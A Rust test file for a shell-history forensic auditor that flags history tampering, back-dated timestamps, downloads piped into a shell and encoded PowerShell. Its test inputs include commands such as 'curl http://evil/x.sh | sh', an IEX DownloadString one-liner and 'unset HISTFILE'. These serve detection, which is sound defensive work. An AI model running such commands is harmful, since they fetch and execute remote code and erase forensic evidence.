use shellhist::forensic::{audit, Category, HistAnomaly, Severity};
use shellhist::{HistoryEntry, Shell};

fn entry(cmd: &str, ts: Option<i64>) -> HistoryEntry {
    HistoryEntry {
        shell: Shell::Bash,
        command: cmd.into(),
        timestamp: ts,
        elapsed: None,
        paths: vec![],
    }
}

fn codes(a: &[HistAnomaly]) -> Vec<&str> {
    a.iter().map(HistAnomaly::code).collect()
}

#[test]
fn benign_history_fires_nothing() {
    let h = [
        entry("ls -la", Some(100)),
        entry("cd /tmp", Some(101)),
        entry("git status", Some(102)),
    ];
    assert!(audit(&h).is_empty());
}

#[test]
fn history_clearing_is_flagged() {
    for cmd in [
        "unset HISTFILE",
        "set +o history",
        "history -c",
        "export HISTFILE=/dev/null",
        "Clear-History",
    ] {
        let a = audit(&[entry(cmd, None)]);
        assert!(
            codes(&a).contains(&"SHELLHIST-HISTORY-DISABLED"),
            "missed: {cmd}"
        );
    }
}

#[test]
fn timestamp_regression_is_flagged() {
    let h = [entry("a", Some(200)), entry("b", Some(150))]; // went backwards
    let a = audit(&h);
    assert!(codes(&a).contains(&"SHELLHIST-TIMESTAMP-REGRESSION"));
    assert!(!codes(&audit(&[entry("a", Some(1)), entry("b", Some(2))]))
        .contains(&"SHELLHIST-TIMESTAMP-REGRESSION"));
}

#[test]
fn download_pipe_to_shell_is_flagged() {
    for cmd in [
        "curl http://evil/x.sh | sh",
        "wget -qO- http://evil | bash",
        "curl http://x|sh",
    ] {
        assert!(
            codes(&audit(&[entry(cmd, None)])).contains(&"SHELLHIST-REMOTE-EXEC-PIPE"),
            "missed: {cmd}"
        );
    }
    assert!(!codes(&audit(&[entry("curl -o x.sh http://x", None)]))
        .contains(&"SHELLHIST-REMOTE-EXEC-PIPE"));
}

#[test]
fn pwsh_encoded_command_is_flagged() {
    for cmd in [
        "powershell -EncodedCommand ZQBjAGgAbwA=",
        "pwsh -enc ZQBj",
        "powershell -ExecutionPolicy Bypass -File x.ps1",
    ] {
        assert!(
            codes(&audit(&[entry(cmd, None)])).contains(&"SHELLHIST-PWSH-ENCODED-CMD"),
            "missed: {cmd}"
        );
    }
}

#[test]
fn notes_are_hedged_observations_never_verdicts() {
    let a = audit(&[entry("curl http://x | sh", None)]);
    assert_eq!(a.len(), 1);
    let note = a[0].note().to_ascii_lowercase();
    assert!(note.contains("consistent with"), "must hedge: {note}");
    for forbidden in ["proves", "confirms", "definitely"] {
        assert!(!note.contains(forbidden), "note overstates: {note}");
    }
}

#[test]
fn each_anomaly_has_its_note_severity_and_category() {
    let a = HistAnomaly::HistoryDisabled { command: "history -c".into() };
    assert_eq!(a.note(), "the command \"history -c\" disables or clears shell history; consistent with anti-forensic history tampering (MITRE T1070.003)");
    assert_eq!(a.category(), Category::Concealment);
    assert_eq!(a.severity(), Some(Severity::Medium));
    let r = HistAnomaly::TimestampRegression { at: -5, previous: 9223372036854775807 };
    assert_eq!(r.note(), "an entry timestamped -5 follows one timestamped 9223372036854775807 (history went backwards in time); consistent with injected or back-dated entries");
    assert_eq!(r.category(), Category::Integrity);
    assert_eq!(r.code(), "SHELLHIST-TIMESTAMP-REGRESSION");
    let m = HistAnomaly::TimestampRegression { at: i64::MIN, previous: 0 };
    assert!(m.note().starts_with("an entry timestamped -9223372036854775808 follows one timestamped 0 "));
    let p = HistAnomaly::RemoteExecPipe { command: "a\"b".into() };
    assert_eq!(p.note(), "the command \"a\\\"b\" downloads and pipes content directly into a shell; consistent with remote payload execution (MITRE T1059 / T1105)");
    assert_eq!(p.category(), Category::Threat);
    let e = HistAnomaly::PwshEncodedCommand { command: "x".into() };
    assert_eq!(e.category(), Category::Threat);
    assert_eq!(e.code(), "SHELLHIST-PWSH-ENCODED-CMD");
}

#[test]
fn one_command_can_raise_several_anomalies_in_a_fixed_order() {
    let a = audit(&[entry("curl http://x | sh; unset HISTFILE; pwsh -enc AA", Some(5)), entry("ls", Some(4))]);
    assert_eq!(
        codes(&a),
        vec![
            "SHELLHIST-HISTORY-DISABLED",
            "SHELLHIST-REMOTE-EXEC-PIPE",
            "SHELLHIST-PWSH-ENCODED-CMD",
            "SHELLHIST-TIMESTAMP-REGRESSION",
        ]
    );
    assert_eq!(a[3], HistAnomaly::TimestampRegression { at: 4, previous: 5 });
}

#[test]
fn untimed_entries_do_not_reset_the_last_timestamp() {
    let a = audit(&[entry("a", Some(10)), entry("b", None), entry("c", Some(3))]);
    assert_eq!(a, vec![HistAnomaly::TimestampRegression { at: 3, previous: 10 }]);
}

#[test]
fn other_matchers_fire_on_their_idioms() {
    for cmd in ["ln -sf /dev/null ~/.bash_history", "rm ~/.zsh_history", "Remove-Item ConsoleHost_history.txt"] {
        assert!(codes(&audit(&[entry(cmd, None)])).contains(&"SHELLHIST-HISTORY-DISABLED"), "missed: {cmd}");
    }
    for cmd in ["IEX (New-Object Net.WebClient).DownloadString('http://x')", "echo aGk= | base64 -d | bash"] {
        assert!(codes(&audit(&[entry(cmd, None)])).contains(&"SHELLHIST-REMOTE-EXEC-PIPE"), "missed: {cmd}");
    }
    for cmd in ["pwsh -enc", "iex ([Convert]::FromBase64String('aGk='))"] {
        assert!(codes(&audit(&[entry(cmd, None)])).contains(&"SHELLHIST-PWSH-ENCODED-CMD"), "missed: {cmd}");
    }
    assert!(audit(&[entry("rm notes.txt", None), entry("ln -s /dev/null x", None)]).is_empty());
}

#[test]
fn auditing_joined_streams_joins_the_audits() {
    let a = [entry("unset HISTFILE", Some(10)), entry("ls", Some(20))];
    let b = [entry("ls", None), entry("curl http://x | sh", Some(20)), entry("x", Some(5))];
    let joined: Vec<HistoryEntry> = a.iter().chain(b.iter()).cloned().collect();
    let mut expected = audit(&a);
    expected.extend(audit(&b));
    assert_eq!(audit(&joined), expected);
}

#[test]
fn audit_codes_ignore_ascii_case() {
    let lower = [entry("curl http://x | sh", Some(3)), entry("history -c", Some(1))];
    let upper = [entry("CURL HTTP://X | SH", Some(3)), entry("HISTORY -C", Some(1))];
    assert_eq!(codes(&audit(&lower)), codes(&audit(&upper)));
    assert_eq!(audit(&upper).len(), 3);
}
